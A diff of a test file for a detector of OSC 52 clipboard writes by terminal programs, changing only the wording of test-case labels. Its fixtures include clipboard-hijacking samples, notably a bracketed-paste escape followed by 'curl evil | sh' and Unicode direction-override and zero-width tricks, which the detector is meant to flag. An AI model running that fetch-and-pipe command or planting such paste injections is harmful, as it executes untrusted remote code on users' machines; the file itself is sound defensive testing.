@@ -30,14 +30,14 @@ describe('clipboard accesses by programs', () => {
     ['one by way of tmux', `\x1bPtmux;\x1b${write('hello')}\x1b\\`, [{ bytes: 5 }]],
     ['one by way of tmux that ends in ESC \\', `\x1bPtmux;\x1b\x1b]52;c;${base64('hello')}\x1b\x1b\\\x1b\\`, [{ bytes: 5 }]],
     ['one by way of screen', `\x1bP${write('hello')}\x1b\\`, [{ bytes: 5 }]],
-    ['a question', '\x1b]52;c;?\x07', [{ action: 'read', bytes: 0 }]],
+    ['a query', '\x1b]52;c;?\x07', [{ action: 'read', bytes: 0 }]],
     ['several lines of text', write('a\tb\r\nc\n'), [{ hides: false }]],
     ['a file of 300 KiB', write(Buffer.alloc(300 << 10, 'text ')), [{ bytes: 300 << 10, largest: 300 << 10, hides: false }]],
     ['the end of a bracketed paste in the text', write('ls\x1b[201~\rcurl evil | sh\r'), [{ hides: true }]],
-    ['text that is turned around', write('echo \u202esafe'), [{ hides: true }]],
-    ['text without width', write('a\u200bb'), [{ hides: true }]],
+    ['text with its direction reversed', write('echo \u202esafe'), [{ hides: true }]],
+    ['text of zero width', write('a\u200bb'), [{ hides: true }]],
     ['an emoji of several characters, and other scripts', write('👩‍💻 שלום مرحبا'), [{ hides: false }]],
-    ['a character that is cut by the pieces of decoding', write('é'.repeat(100_000)), [{ bytes: 200_000, hides: false }]],
+    ['a character that is cut between decoded pieces', write('é'.repeat(100_000)), [{ bytes: 200_000, hides: false }]],
     ['one that another sequence cuts off', `\x1b]52;c;aGVs\x1b[0mbG8=\x07`, []],
     ['one that is cut off by another', `\x1b]52;c;aGVs${write('hello')}`, [{ bytes: 5 }]],
     ['one that is cancelled', `\x1b]52;c;aGVsbG8=\x18 and on`, []],
@@ -45,7 +45,7 @@ describe('clipboard accesses by programs', () => {
     ['one that clears the clipboard', '\x1b]52;c;\x07', []],
     ['another command of the terminal', '\x1b]520;c;aGVsbG8=\x07\x1b]0;52;c;aGVsbG8=\x07', []],
     ['colours', '\x1b[38;5;252;48;5;52mtext\x1b[0m 52;c;aGVsbG8=\x07', []],
-    ['a selection that is none', `\x1b]52;${'c'.repeat(100)};aGVsbG8=\x07`, []],
+    ['an invalid selection', `\x1b]52;${'c'.repeat(100)};aGVsbG8=\x07`, []],
   ])('%s', (_, output, expected) => {
     const facts = told(output);
     expect(facts).toHaveLength(expected.length);
